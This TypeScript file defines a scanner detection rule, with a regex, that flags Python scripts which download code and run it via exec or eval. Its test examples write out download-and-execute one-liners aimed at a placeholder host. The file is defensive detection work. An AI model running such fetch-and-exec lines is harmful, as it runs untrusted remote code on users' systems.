import type { Rule } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { PIPE_TO_SHELL } from './format.ts';

/** Downloads that a script runs. */
export const SCRIPT_DOWNLOAD_RULES: readonly Rule[] = [
  {
    ...PIPE_TO_SHELL,
    id: 'script_download_executed',
    confidence: 'high',
    keywords: ['urlopen(', 'requests.get(', 'urllib'],
    expression: expression(
      'gi',
      String.raw`(?<![A-Za-z0-9_.])(?:exec|eval)\([\s\\"']{0,6}(?:__import__\([^)\r\n]{1,20}\)\.|compile\()?[A-Za-z_.]{0,40}(?:urlopen|requests\.get|httpx\.get)\([^\r\n]{3,160}`,
    ),
    reach: { before: 90, after: 190 },
    describes: 'A script that fetches a program and runs it from memory.',
    get finds() {
      return [
        'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x.example/a\').read())"',
        'exec(requests.get("http://x.example/a").text)',
        "eval(urllib.request.urlopen('http://x.example').read())",
      ];
    },
    get ignores() {
      return ['data = urlopen(url).read()', 'json.loads(requests.get(url).text)', 'cursor.exec(urlopen)'];
    },
  },
];
